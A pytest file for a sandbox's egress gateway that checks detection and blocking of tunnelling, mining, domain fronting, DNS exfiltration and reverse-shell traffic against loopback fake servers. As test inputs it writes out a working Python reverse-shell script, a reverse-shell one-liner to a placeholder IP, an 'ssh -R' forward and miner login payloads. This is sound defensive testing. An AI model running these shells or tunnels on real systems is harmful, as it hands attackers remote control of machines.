"""Evidence from the stream and no attempt unjudged, through a real sandbox and its gateway, against
fake servers on loopback: each case split at every byte boundary and after a harmless first line."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import hashlib
import json
import os
import socket
import threading
from typing import Any

import pytest

from corral import Sandbox
from corral.egress import Egress, Resolver
from corral.egress.gateway import launcher_binary
from corral.policy.loader import load_policy
from corral.rules import RuleEngine
from tests.egress.conftest import TEST_NAMES, assert_isolated, egress_events, network
from tests.egress.conftest import wait_for_event as wait

pytestmark = pytest.mark.unprivileged

SSH = b"SSH-2.0-OpenSSH_9.2p1\r\n"
SUBSCRIBE = b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5"]}\n'
LOGIN = b'{"id":1,"method":"login","params":{"login":"44AF","pass":"x","agent":"XMRig/6.21"}}\n'

# Inside the sandbox: for each split point, CONNECT, optionally a harmless line (answered), then the
# payload in two writes; prints, per split, whether the gateway cut the connection.
SPLITS_PY = r"""
import json, socket, sys, time
host, port, payload, lead = sys.argv[1], int(sys.argv[2]), bytes.fromhex(sys.argv[3]), bytes.fromhex(sys.argv[4])
ws = len(sys.argv) > 5
def tunnel():
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    assert b" 200 " in head, head
    return s
def line(s):
    got = b""
    while not got.endswith(b"\n"):
        c = s.recv(1)
        if not c:
            raise ConnectionError("closed")
        got += c
    return got
cut = []
for i in range(1, len(payload)):
    s = tunnel()
    s.settimeout(2)
    if ws:
        s.sendall(lead)
        while not line(s).strip() == b"":
            pass
    elif lead:
        s.sendall(lead)
        assert line(s) == b"ok\n"
    try:  # cut: the gateway ends the connection; else the server keeps it open (a timeout)
        s.sendall(payload[:i])
        time.sleep(0.005)
        s.sendall(payload[i:])
        while s.recv(100):
            pass
        cut.append(True)
    except TimeoutError:
        cut.append(False)
    except OSError:
        cut.append(True)
    s.close()
print(json.dumps(cut))
"""


class Recorder:
    """A loopback server keeping every connection's bytes; answers each chunk with `ok`, or
    speaks the WebSocket handshake first."""

    def __init__(self, websocket: bool = False) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.conns: list[bytearray] = []
        self.websocket = websocket
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._one, args=(conn,), daemon=True).start()

    def _one(self, conn: socket.socket) -> None:
        got = bytearray()
        self.conns.append(got)
        with conn, contextlib.suppress(OSError):
            if self.websocket:
                head = b""
                while b"\r\n\r\n" not in head:
                    head += conn.recv(4096)
                key = [h.split(b":", 1)[1].strip() for h in head.split(b"\r\n")
                       if h.lower().startswith(b"sec-websocket-key:")][0]  # fmt: skip
                accept = base64.b64encode(
                    hashlib.sha1(key + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest()
                )
                conn.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
                             b"Connection: Upgrade\r\nSec-WebSocket-Accept: " + accept +
                             b"\r\n\r\n")  # fmt: skip
            while data := conn.recv(4096):
                got += data
                conn.sendall(b"ok\n")

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()


@pytest.fixture
def recorder():
    made: list[Recorder] = []

    def make(**kw: Any) -> Recorder:
        made.append(Recorder(**kw))
        return made[-1]

    yield make
    for r in made:
        r.close()


async def splits(sb: Sandbox, port: int, payload: bytes, lead: bytes = b"",
                 ws: bool = False) -> list[bool]:  # fmt: skip
    await sb.write_file("splits.py", SPLITS_PY)
    r = await sb.exec(f"python3 splits.py pool.test {port} '{payload.hex()}' '{lead.hex()}'"
                      + (" ws" if ws else ""), timeout=120)  # fmt: skip
    assert r.exit_code == 0, r.output
    return json.loads(r.stdout)


async def findings(sb: Sandbox, rule: str, expected: int) -> int:
    """Individual records plus those counted in summaries (each reported once its one-second
    window closes): waits up to 5 s for `expected`, and returns what there is."""
    total = 0
    for _ in range(25):
        total = len(egress_events(sb, rule)) + sum(
            e.evidence["count"] for e in egress_events(sb, "egress.attempts_summarised")
            if e.evidence["for_rule"] == rule
        )  # fmt: skip
        if total >= expected:
            break
        await asyncio.sleep(0.2)
    return total


@pytest.mark.parametrize(("payload", "rule"), [(SSH, "tunnel.ssh_via_proxy"),
                                               (SUBSCRIBE, "mining.stratum_wire"),
                                               (LOGIN, "mining.stratum_wire")],
                         ids=["ssh", "subscribe", "login"])  # fmt: skip
@pytest.mark.parametrize("lead", [b"", b"hello\n"], ids=["first", "after-a-line"])
async def test_evidence_split_at_every_byte_boundary_is_cut(make_sandbox, recorder, payload,
                                                            rule, lead):  # fmt: skip
    srv = recorder()
    sb = await make_sandbox(network("pool.test", "127.0.0.1"), mining="block", tunnel="block")
    cut = await splits(sb, srv.port, payload, lead)
    assert cut == [True] * (len(payload) - 1)
    assert srv.conns and not any(payload in bytes(c) for c in srv.conns)  # never delivered whole
    if lead:
        assert all(bytes(c).startswith(lead) for c in srv.conns)  # the harmless line went through
    await wait(sb, "egress.connection")
    assert await findings(sb, rule, len(payload) - 1) == len(payload) - 1
    ev = egress_events(sb, rule)[0]
    assert ev.action == "blocked" and ev.dst.port == srv.port and ev.argv[:2] == [
        "python3", "splits.py"]  # fmt: skip
    # small events: the parent chain is summarised, never bwrap's whole command line
    assert len(ev.model_dump_json()) < 4096
    assert not any("bwrap" in " ".join(p) for p in ev.evidence["parents"])


def ws_frame(payload: bytes, mask: bytes = b"\x11\x22\x33\x44") -> bytes:
    """One masked text frame, as a browser or a websocket library sends it (RFC 6455 5.2)."""
    assert len(payload) < 126
    body = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    return bytes([0x81, 0x80 | len(payload)]) + mask + body


async def test_stratum_inside_websocket_frames_split_at_every_byte(make_sandbox, recorder):
    srv = recorder(websocket=True)
    sb = await make_sandbox(network("pool.test", "127.0.0.1"), mining="block")
    upgrade = (b"GET /stratum HTTP/1.1\r\nHost: pool.test\r\nUpgrade: websocket\r\n"
               b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
               b"Sec-WebSocket-Version: 13\r\n\r\n")  # fmt: skip
    frame = ws_frame(SUBSCRIBE.strip())
    cut = await splits(sb, srv.port, frame, upgrade, ws=True)
    assert cut == [True] * (len(frame) - 1)
    assert not any(frame in bytes(c) for c in srv.conns)
    await wait(sb, "egress.connection")
    assert await findings(sb, "mining.stratum_wire", len(frame) - 1) == len(frame) - 1
    assert egress_events(sb, "mining.stratum_wire")[0].evidence["websocket"] is True


async def test_tls_without_sni_where_a_name_was_promised(make_sandbox, serve, tls_context):
    srv = serve(tls=tls_context)
    sb = await make_sandbox(network("web.test", "127.0.0.1"))
    r = await sb.exec(
        "python3 -c \"import socket, ssl; s=socket.create_connection(('127.0.0.1', 3128)); "
        f"s.sendall(b'CONNECT web.test:{srv.port} HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n'); "
        "print(s.recv(100)); c=ssl.create_default_context(); c.check_hostname=False; "
        'c.verify_mode=ssl.CERT_NONE; c.wrap_socket(s, server_hostname=None)"'
    )
    assert r.exit_code != 0
    ev = await wait(sb, "tunnel.tls_without_sni")
    assert ev.evidence["sni"] is None and ev.evidence["promised"] == "web.test"
    assert ev.action == "blocked" and ev.category == "tunnel"


async def test_http_host_fronting_through_connect_and_plain_proxying(make_sandbox, serve):
    srv = serve()
    sb = await make_sandbox(network("web.test", "127.0.0.1"))
    # a plain proxied request whose Host names another site
    r = await sb.exec(f"curl -sS -H 'Host: hidden.example' http://web.test:{srv.port}/")
    assert r.exit_code != 0 and "hello" not in r.stdout, r.output
    ev = await wait(sb, "tunnel.domain_fronting")
    assert ev.evidence["host_header"] == "hidden.example" and ev.dst.host == "web.test"
    # inside a CONNECT tunnel, after a harmless request on the same connection
    r = await sb.exec(
        "python3 -c \"import socket; s=socket.create_connection(('127.0.0.1', 3128)); "
        f"s.sendall(b'CONNECT web.test:{srv.port} HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n'); "
        "s.recv(100); "
        "s.sendall(b'GET / HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHo'); "
        "import time; time.sleep(0.05); s.sendall(b'st: hidden.example\\r\\n\\r\\n'); "
        "d=b''\nwhile (c:=s.recv(4096)): d+=c\nprint(d.count(b'hello from loopback'))\""
    )
    assert r.stdout.strip() == "1", r.output  # the first answered, the fronted one never sent
    assert len(egress_events(sb, "tunnel.domain_fronting")) == 2


@pytest.mark.parametrize(("send", "reason"), [
    (b"hello proxy\r\n\r\n", "illegal request line"),
    (b"\x05\x01\x00\x05\x02\x00\x01\xcb\x00\x71\x05\x01\xbb", "BIND"),
    (b"\x04\x01\x01\xbb\xcb\x00\x71\x05\x00", "SOCKS4"),
])  # fmt: skip
async def test_malformed_proxy_and_socks_requests_are_recorded(make_sandbox, send, reason):
    sb = await make_sandbox()
    r = await sb.exec(
        "python3 -c \"import socket; s=socket.create_connection(('127.0.0.1', 3128)); "
        f"s.sendall(bytes.fromhex('{send.hex()}')); print(s.recv(100).hex())\""
    )
    assert r.exit_code == 0 and r.stdout.strip(), r.output  # answered as the protocol expects
    ev = await wait(sb, "egress.malformed_request")
    assert reason in ev.evidence["reason"] and ev.action == "blocked"
    assert ev.argv[0] == "python3" and ev.evidence["head"]


async def test_an_address_embedding_another_is_judged_by_it(make_sandbox):
    sb = await make_sandbox()  # dev: metadata -> block, probe_internal -> alert
    r = await sb.exec("python3 -c \"import socket; s=socket.socket(socket.AF_INET6); "
                      "s.connect(('64:ff9b::a9fe:a9fe', 80))\"")  # fmt: skip
    assert r.exit_code != 0
    ev = await wait(sb, "metadata.cloud_endpoint")
    assert ev.dst.ip == "64:ff9b::a9fe:a9fe" and ev.argv[0] == "python3"
    assert "169.254.169.254" in ev.message
    r = await sb.exec("curl -sS -f 'http://[2002:a00:5::1]/'")
    assert r.exit_code == 22
    ev = await wait(sb, "probe_internal.address")
    assert ev.category == "probe_internal" and "10.0.0.5" in ev.message


async def test_connections_past_the_cap_are_each_judged_and_a_flood_summarised(make_sandbox,
                                                                              recorder):  # fmt: skip
    srv = recorder()
    sb = await make_sandbox(network("pool.test", "127.0.0.1", max_connections=1))
    r = await sb.exec(
        "python3 -c \"import socket\ndef c():\n s=socket.create_connection(('127.0.0.1', 3128))\n"
        f" s.sendall(b'CONNECT pool.test:{srv.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n"
        " return s, s.recv(100)\nheld, ok = c()\nassert b' 200 ' in ok, ok\n"
        "print(sum(b' 503 ' in c()[1] for _ in range(60)))\""
    )
    assert r.stdout.strip() == "60", r.output
    await wait(sb, "egress.attempts_summarised", timeout=5)
    # a window still open closes (and reports) about a second later; later on a loaded host
    assert await findings(sb, "egress.max_connections", 60) == 60  # none unjudged
    individual = egress_events(sb, "egress.max_connections")
    assert sb.egress.summary.burst <= len(individual) < 60  # one by one up to the burst a second
    assert individual[0].argv[0] == "python3" and individual[0].action == "blocked"


@pytest.mark.skipif(
    os.geteuid() != 0 and launcher_binary() is None,
    reason="an ordinary user answers DNS through the C launcher (make install)",
)
async def test_dns_names_carrying_data_under_an_allowed_wildcard(make_sandbox):
    sb = await make_sandbox(network("*.exfil.test"))
    asked: list[str] = []
    inner = sb.egress.resolver

    class Recording(Resolver):
        async def resolve(self, name: str) -> list[str]:
            asked.append(name)
            return await inner.resolve(name)

    sb.egress.resolver = Recording(use_dns=False)
    label = "4f7dcc93a1052140d0c621eb8c561d50"
    r = await sb.exec(f"getent hosts {label}.exfil.test; getent hosts www.exfil.test; true")
    ev = await wait(sb, "exfiltration.dns_tunnel")
    assert ev.category == "exfiltration" and ev.dst.host == f"{label}.exfil.test"
    assert ev.evidence["encoded"] is True and ev.argv[0] == "getent", r.output
    assert f"{label}.exfil.test" not in asked and "www.exfil.test" in asked


async def test_ssh_forward_from_a_script_is_judged_as_the_plain_command(store, tmp_path):
    """rl-strict: `ssh -R` run from a script costs what the plain command costs and ends the
    episode the same way, judged here from what the process did: connect for ssh -R."""
    policy = load_policy("rl-strict").model_copy(deep=True)
    policy.gate.enabled = False  # the gateway's judgement alone (the gate would stop the plain one)
    policy.monitor.enabled = False  # (and the exec sensor would stop it before it connects)
    policy.limits.enforcement = "best_effort"  # an ordinary user has no cgroup to enforce cpus
    sb = Sandbox(policy, egress=Egress(resolver=Resolver(TEST_NAMES, use_dns=False)), store=store)
    await sb.start()
    try:
        await assert_isolated(sb)
        await sb.write_file("up.sh", "ssh -o BatchMode=yes -o ConnectTimeout=2 "
                            "-R 2222:localhost:22 u@203.0.113.7\n")  # fmt: skip
        step = (await sb.exec("true")).step + 1
        await sb.exec("bash up.sh")
        ev = await wait(sb, "tunnel.ssh_forward_on_wire")
        plain = RuleEngine.default().check_command("ssh -R 2222:localhost:22 u@203.0.113.7")[0]
        assert (ev.category, ev.severity) == (plain.category, plain.severity)
        assert ev.action == "terminated" and ev.step == step
        [penalty] = [e for e in sb.events if e.rule == "respond.penalty"]
        assert penalty.evidence["penalty"] == policy.responses.penalties[plain.severity]
        await wait(sb, "respond.terminate", source="sandbox")
        assert sb.terminated
    finally:
        await sb.close()


REVERSE_PY = r"""
import os, socket, sys
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(f"CONNECT listener.test:{sys.argv[1]} HTTP/1.1\r\nHost: listener.test\r\n\r\n".encode())
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(1)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
"""


async def test_reverse_shell_from_a_script_is_judged_as_the_plain_one(make_sandbox):
    """The shell's output going up the connection gives the category, response and severity the
    plain one-liner gets from the command rules (dev: reverse_shell -> terminate)."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    port = listener.getsockname()[1]
    got = bytearray()

    def attacker() -> None:  # the other end: asks who it is, keeps what comes back
        with contextlib.suppress(OSError):
            conn, _ = listener.accept()
            with conn:
                conn.sendall(b"id\n")
                while data := conn.recv(4096):
                    got.extend(data)

    threading.Thread(target=attacker, daemon=True).start()
    try:
        sb = await make_sandbox(network("listener.test", "127.0.0.1"))
        await sb.write_file("rev.py", REVERSE_PY)
        await sb.exec(f"python3 rev.py {port}", timeout=20)
        ev = await wait(sb, "reverse_shell.shell_on_wire")
        plain = RuleEngine.default().check_command(
            'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));'
            '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\''
        )[0]
        assert (ev.category, ev.severity) == (plain.category, plain.severity)
        assert ev.action == "terminated" and ev.dst.port == port
        await wait(sb, "respond.terminate", source="sandbox")
        assert sb.terminated and b"uid=" not in bytes(got)  # the answer never reached it
    finally:
        listener.close()
